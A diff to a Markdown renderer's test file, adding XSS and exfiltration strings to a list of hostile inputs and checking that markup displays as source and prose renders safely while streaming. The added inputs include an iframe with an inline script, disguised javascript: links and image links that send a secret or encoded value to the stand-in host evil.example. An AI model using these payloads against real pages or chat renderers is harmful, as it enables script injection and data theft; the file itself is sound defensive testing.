@@ -14,6 +14,9 @@ const HOSTILE = [
   '![x](https://evil.example/p.png?secret=1)',
   '![x](//evil.example/p.png)',
   '<details>\n\n<img src=x onerror=hack()>\n\n</details>',
+  '<iframe srcdoc="<script>window.hacked = true</script>">',
+  '[x](java&#x0A;script:alert(1)) [y](JaVaScRiPt:alert(1)) [z](\u0001javascript:alert(1))',
+  '![x](https://evil.example/c?d=QkFTRTY0) ![y](streamdown:incomplete-image) [z](streamdown:incomplete-link)',
   '<p style="position:fixed">x</p>',
 ];
 
@@ -41,9 +44,12 @@ describe.each(HOSTILE)('hostile text %j', (text) => {
   });
 });
 
-it('shows markup as its source', async () => {
-  const { container } = await render(<Markdown text={'a <b>bold</b> & &lt;i&gt; &amp;'} />);
-  expect(container.textContent).toBe('a <b>bold</b> & <i> &');
+it.each([
+  ['a <b>bold</b> & &lt;i&gt; &amp;', 'a <b>bold</b> & <i> &'],
+  ['<script>1</script>', '<script>1</script>'],
+])('shows markup as its source: %j', async (text, shown) => {
+  const { container } = await render(<Markdown text={text} />);
+  expect(container.textContent).toBe(shown);
 });
 
 it('opens links without giving the page away, and says where they lead', async () => {
@@ -74,10 +80,16 @@ it.each([
   ['234234*123', '234234*123'],
   ['about ~$0.79/m3 and ~$300/t', 'about ~$0.79/m3 and ~$300/t'],
   ['a_b and a\\_b', 'a_b and a_b'],
-])('shows %j as prose', async (text, shown) => {
-  const { container } = await render(<Markdown text={text} />);
+])('shows %j as prose, also while it comes', async (text, shown) => {
+  const { container, rerender } = await render(<Markdown text="" streaming />);
+  for (let end = 1; end <= text.length; end++) {
+    await rerender(<Markdown text={text.slice(0, end)} streaming />);
+    // What a backslash is for is not known before the next character.
+    expect(`${shown} ${text}`).toContain(container.textContent);
+    expect(container.querySelector('em, strong, del')).toBe(null);
+  }
+  await rerender(<Markdown text={text} />);
   expect(container.textContent).toBe(shown);
-  expect(container.querySelector('em, strong, del')).toBe(null);
 });
 
 it.each([
